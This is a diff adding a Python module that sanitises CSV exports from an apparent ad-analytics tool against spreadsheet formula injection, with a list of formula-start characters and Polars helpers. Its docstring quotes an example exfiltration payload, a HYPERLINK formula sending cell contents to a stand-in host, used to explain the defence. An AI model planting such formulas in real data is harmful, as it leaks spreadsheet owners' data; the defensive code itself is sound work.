@@ -1,0 +1,61 @@
+"""CSV as kassa writes it for people to open in a spreadsheet: no cell can run as a formula.
+
+Excel, LibreOffice and Google Sheets read a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula,
+and one that starts with a tab or a carriage return may be trimmed into one. A channel or campaign name
+comes from an ad cabinet or a CRM, so whoever named a campaign ``=HYPERLINK("http://x.example/?"&A1)``
+could make the owner's spreadsheet send the neighbouring cells away. As OWASP recommends
+(https://owasp.org/www-community/attacks/CSV_Injection), such a *text* cell is written with a leading
+single quote, which spreadsheets show as text and do not evaluate. Numbers stay numbers: ``-1200.5`` is a
+number, not a formula, and only text is ever prefixed.
+
+Every CSV export goes through here (``/channels.csv``, ``/channels/<channel>.csv``, ``kassa metrics
+--csv``). The demo's input files (:mod:`kassa.demo.tables`) do not: they are data for ``kassa import``,
+and a quote before ``+7…`` would change the phone numbers they carry.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+from collections.abc import Iterable, Sequence
+from typing import IO, Any
+
+import polars as pl
+
+# What a spreadsheet may take for the start of a formula (OWASP's list).
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def safe_cell(value: Any) -> Any:
+    """``value`` as a CSV cell a spreadsheet will not evaluate: text that starts like a formula gets a
+    leading ``'``; numbers, ``None`` and other text are returned unchanged."""
+    if isinstance(value, str) and value.startswith(FORMULA_START):
+        return "'" + value
+    return value
+
+
+def safe_frame(frame: pl.DataFrame) -> pl.DataFrame:
+    """``frame`` with :func:`safe_cell` applied to every text column (numeric columns are left alone)."""
+    starts = "^[" + "".join("\\" + c if c in "-\\^]" else c for c in FORMULA_START) + "]"
+    exprs = []
+    for name, dtype in frame.schema.items():
+        if dtype in (pl.String, pl.Categorical) or isinstance(dtype, pl.Enum):
+            col = pl.col(name).cast(pl.String)
+            exprs.append(pl.when(col.str.contains(starts)).then(pl.lit("'") + col).otherwise(col).alias(name))
+    return frame.with_columns(exprs) if exprs else frame
+
+
+def write_frame_csv(frame: pl.DataFrame, out: IO[str]) -> None:
+    """``frame`` as CSV on ``out`` (Polars' own number formatting), every text cell made safe."""
+    safe_frame(frame).write_csv(out)
+
+
+def rows_csv(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> str:
+    """A header and rows as CSV text (``None`` as an empty cell), every text cell made safe."""
+    out = io.StringIO()
+    # CRLF (RFC 4180): the writer then also quotes a cell holding a bare carriage return.
+    writer = csv.writer(out, lineterminator="\r\n")
+    writer.writerow([safe_cell(h) for h in header])
+    for row in rows:
+        writer.writerow(["" if v is None else safe_cell(v) for v in row])
+    return out.getvalue()
